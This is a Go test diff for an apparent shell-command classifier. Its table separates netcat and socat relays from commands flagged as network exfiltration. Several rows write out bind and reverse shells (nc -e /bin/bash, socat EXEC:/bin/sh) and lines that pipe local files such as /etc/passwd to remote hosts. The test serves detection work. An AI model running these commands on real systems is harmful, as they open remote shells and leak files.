@@ -143,3 +143,40 @@ func TestPrecisionSealedNotShown(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestPrecisionNetcatRelays: a netcat relay forwards a port to another
+// host (a tunnel, which the README labels everyday, as ssh -L): what
+// crosses it is what the peers send, not a file or a program of this
+// machine (round 8, precision; heldout9's v0104, v0701, v1220). The two
+// documented forms: a listener that runs only another netcat or socat
+// client for each peer (the Ncat Users' Guide, "Connection Brokering" and
+// "--sh-exec 'ncat HOST PORT'" as a proxy; nc(1)'s -c|-e with a client),
+// and the FIFO relay, "nc -l PORT 0<backpipe | nc HOST PORT 1>backpipe"
+// (SANS netcat cheat sheet, "Relays"), whose only file read is the pipe
+// the same pipeline's end writes. A served shell, a file read by one of
+// its commands, or a shell between the two netcats stays marked.
+func TestPrecisionNetcatRelays(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		// Marked: a shell or a file of this machine on the line.
+		{`nc -l -p 4444 -e /bin/bash`, NetworkExfiltration},
+		{`ncat -l 8080 --sh-exec 'bash -i'`, NetworkExfiltration},
+		{`nc -l -p 8080 -c 'nc example.com 80; cat /etc/passwd'`, NetworkExfiltration},
+		{`nc 192.168.1.10 8080 | /bin/bash | nc 192.168.1.10 8080`, NetworkExfiltration},
+		{`cat notes.txt | nc example.com 4444`, NetworkExfiltration},
+		{`nc example.com 80 < notes.txt | nc example.org 80 > /tmp/pipe`, NetworkExfiltration},
+		{`socat TCP-LISTEN:8080,fork EXEC:/bin/sh`, NetworkExfiltration},
+		// Everyday: a relay between two sockets.
+		{`nc -l -p 8080 < /tmp/pipe | nc remote_host 80 > /tmp/pipe`, ""},
+		{`nc -l -p 8080 < pipe | nc remote_host 80 > pipe`, ""},
+		{`mkfifo backpipe; nc -l 8080 0<backpipe | nc example.com 80 1>backpipe`, ""},
+		{`while true; do nc -l -p 8080 -c 'nc example.com 80'; done`, ""},
+		{`ncat -l 8080 --sh-exec "ncat example.com 80"`, ""},
+		{`nc -l -p 8080 -e 'nc example.com 80'`, ""},
+		{`socat TCP-LISTEN:8080,fork EXEC:'nc example.com 80'`, ""},
+		{`nc -l -p 1080 | nc target 1080`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
